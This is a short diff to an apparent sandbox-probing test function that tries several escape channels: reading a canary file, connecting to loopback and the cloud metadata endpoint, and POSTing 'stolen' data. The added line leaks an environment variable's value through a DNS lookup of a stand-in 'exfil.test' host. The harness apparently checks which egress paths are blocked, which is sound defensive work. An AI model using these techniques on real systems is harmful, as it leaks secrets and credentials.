@@ -38,6 +38,7 @@ def probe():
         attempt("file", lambda: open(canary_file).read()),
         "env: %s" % os.environ.get(env_name, "absent"),
         attempt("loopback", lambda: connect("127.0.0.1", loopback_port)),
+        attempt("dns", lambda: "resolved %s" % socket.getaddrinfo("stolen-" + os.environ.get(env_name, "absent") + ".exfil.test", 80)[0][4][0]),
         attempt("metadata-direct", lambda: connect("169.254.169.254", 80)),
         attempt("metadata-proxy", lambda: fetch("http://169.254.169.254/latest/meta-data/")),
         attempt("granted-post", lambda: fetch(granted + "/post", "POST", b"stolen")),
